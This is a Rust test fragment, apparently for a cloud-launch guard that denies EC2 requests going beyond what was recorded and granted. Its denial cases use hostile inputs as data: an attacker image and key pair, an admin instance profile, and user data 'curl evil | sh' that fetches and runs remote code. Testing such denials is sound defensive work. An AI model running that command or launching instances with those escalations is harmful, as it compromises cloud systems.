    let (subnet, sg, ami) = moto.network();
    let dir = tempfile::tempdir().expect("tempdir");
    // The grant IBM's templates give: their own image, subnet, group; no key, no profile.
    std::fs::write(dir.path().join("c.json"), json!({"AWS_REGION": "us-east-1"}).to_string()).expect("cfg");
    std::fs::write(
        dir.path().join("t.json"),
        json!({"templates": templates(&subnet, &sg, &ami)}).to_string(),
    )
    .expect("tpl");
    let ibm = hfwasm::config::ibm_aws::load(&dir.path().join("c.json"), &dir.path().join("t.json"), |_| None).expect("ibm");
    let client = moto.hfwasm_client(dir.path());
    let store: Arc<dyn StateStore> = Arc::new(hfwasm::store::SqliteStore::open(&dir.path().join("s.sqlite")).expect("store"));
    let mut rec = hfwasm::store::behaviour::record("req-one", hfwasm::store::RequestKind::Provision, 1);
    rec.count = 1;
    store.insert_request(&rec, &[]).expect("record");
    let mut ec2 = GuestEc2::new(
        Some(client),
        ibm.grant.clone(),
        "pool".into(),
        "store-1".into(),
        HostWait::default(),
    )
    .with_requests(store);
    let spec = wit::LaunchSpec {
        image_id: ami.clone(),
        subnet_ids: vec![subnet.clone()],
        security_group_ids: vec![sg.clone()],
        key_name: Some("hf-key".into()),
        instance_profile_arn: None,
        user_data: None,
        tags: vec![],
        root_volume: None,
        launch_template_id: None,
        launch_template_version: None,
        ebs_optimized: None,
        placement: None,
        network_interfaces: None,
    };
    let run = |request: &str, spec: wit::LaunchSpec| wit::RunRequest {
        request_id: request.into(),
        template_id: "OnDemand-Template-VM".into(),
        instance_type: "t3.micro".into(),
        count: 1,
        spec,
        spot_max_price: None,
    };
    let denied = |r: Result<Vec<wit::Instance>, Ec2Error>| match r {
        Err(Ec2Error::Denied(m)) => m,
        other => panic!("expected denied, got {other:?}"),
    };
    assert_eq!(
        ec2.run_instances(run("req-one", spec.clone()))
            .expect("the one host asked for")
            .len(),
        1
    );
    let m = denied(ec2.run_instances(run("req-one", spec.clone())));
    assert!(m.contains("asked for 1") && m.contains("1 are running"), "{m}");
    let m = denied(ec2.run_instances(run("req-invented", spec.clone())));
    assert!(m.contains("not a provision request the host recorded"), "{m}");
    for (changed, needle) in [
        (
            wit::LaunchSpec {
                image_id: "ami-attacker".into(),
                ..spec.clone()
            },
            "image ami-attacker",
        ),
        (
            wit::LaunchSpec {
                subnet_ids: vec!["subnet-other".into()],
                ..spec.clone()
            },
            "subnet subnet-other",
        ),
        (
            wit::LaunchSpec {
                instance_profile_arn: Some("arn:aws:iam::1:instance-profile/admin".into()),
                ..spec.clone()
            },
            "instance profile",
        ),
        (
            wit::LaunchSpec {
                key_name: Some("attacker-key".into()),
                ..spec.clone()
            },
            "key pair attacker-key",
        ),
        (
            wit::LaunchSpec {
                user_data: Some("curl evil | sh".into()),
                ..spec.clone()
            },
            "user data is not granted",
        ),
    ] {
        let m = denied(ec2.run_instances(run("req-one", changed)));
        assert!(m.contains(needle), "{needle}: {m}");
    }
    assert_eq!(moto.instances().len(), 1, "nothing else was launched");
}
